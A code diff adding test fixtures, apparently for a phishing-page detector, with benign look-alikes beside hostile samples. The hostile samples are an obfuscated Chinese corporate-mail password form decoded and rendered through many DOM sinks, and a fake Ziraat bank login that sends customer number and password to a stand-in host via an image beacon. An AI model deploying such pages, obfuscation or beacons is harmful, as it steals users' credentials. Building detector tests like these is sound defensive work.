@@ -136,9 +136,66 @@ const FORMS = pairs([
   ],
 ])
 
+/** A form as bytes of UTF-8 that a script changes back, in letters of Chinese. */
+const ASKING =
+  '<html><head><title>企业邮箱</title></head><body><h2>企业邮箱安全验证</h2><p>请输入邮箱密码。</p><form action="https://a.example/save" method="post"><input name="account"><input name="pwd" type="password"></form></body></html>'
+const SHOWING =
+  '<html><head><title>企业邮箱</title></head><body><h2>企业邮箱</h2><p>八月销售报告。</p><form><input name="q"></form></body></html>'
+const coded = (text: string): string => Buffer.from(Buffer.from(text).map((byte) => byte ^ 9)).toString('base64')
+const decodes = (text: string, shows: string): Uint8Array =>
+  page(
+    `<p>Please wait for the page.</p><iframe id="v"></iframe><script>var b=atob("${coded(text)}"),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i)^9;var h=new TextDecoder().decode(u);${shows}</script>`,
+  )
+const FRAME = 'document.getElementById("v")'
+const SHOWS: Readonly<Record<string, string>> = {
+  'document.write': 'document.write(h)',
+  'a bound function': 'var w=document.write.bind(document);w(h)',
+  'a member': 'document.body.innerHTML=h',
+  'the page of a frame': `${FRAME}.srcdoc=h`,
+  'an attribute of a frame': `${FRAME}.setAttribute("srcdoc",h)`,
+  'an attribute with its namespace': `${FRAME}.setAttributeNS(null,"srcdoc",h)`,
+  'the document of a frame': `var d=${FRAME}.contentDocument;d.open();d.write(h);d.close()`,
+  'the address of a frame': `${FRAME}.setAttribute("src","data:text/html;charset=utf-8,"+encodeURIComponent(h))`,
+  'a coded address of a frame': `${FRAME}.src="data:text/html;base64,"+btoa(unescape(encodeURIComponent(h)))`,
+  'a parser': 'document.body.append(Document.parseHTMLUnsafe(h).body)',
+  'an element': 'document.body.setHTMLUnsafe(h)',
+  'a library': '$("body").html(h)',
+  'another function of the library': '$(document.body).append(h)',
+}
+const WRITTEN = pairs(
+  Object.entries(SHOWS).map(([name, shows]) => [name, decodes(ASKING, shows), decodes(SHOWING, shows)]),
+)
+
+const ENTRIES =
+  '<form><p>Ziraat</p><input id="a" placeholder="Müşteri No"><input id="b" type="password" placeholder="Şifre"><button type="button" id="g">Devam</button></form>'
+const gives = (address: string, code: string): Uint8Array =>
+  page(
+    `${ENTRIES}<script>document.getElementById('g').onclick=function(){var q='${address}?a='+v('a')+'&b='+v('b');(new Image()).src=q};${code}</script>`,
+  )
+const READERS: Readonly<Record<string, [reads: string, counts: string]>> = {
+  'a function': [
+    'function v(x){return encodeURIComponent(document.getElementById(x).value)}',
+    'function v(x){return encodeURIComponent(document.getElementById(x).id)}',
+  ],
+  'a function in a variable': [
+    'var v=function(x){return document.getElementById(x).value}',
+    'var v=function(x){return document.getElementById(x).id}',
+  ],
+  'an arrow': ['var v=x=>document.getElementById(x).value', 'var v=x=>document.getElementById(x).id'],
+}
+const BEACONS = pairs(
+  Object.entries(READERS).map(([name, [reads, counts]]) => [
+    name,
+    gives('https://a.example/t.gif', reads),
+    gives('/t.gif', counts),
+  ]),
+)
+
 export const PAGE_THEFTS: Readonly<Record<string, readonly Pair[]>> = {
   'copied cards': SKIMMERS,
   'exchanged accounts': EXCHANGES,
   'loaders for a Mac': LOADERS,
   'forms in other languages': FORMS,
+  'decoded forms, and how a page shows them': WRITTEN,
+  'entries in the address of a picture, read by': BEACONS,
 }
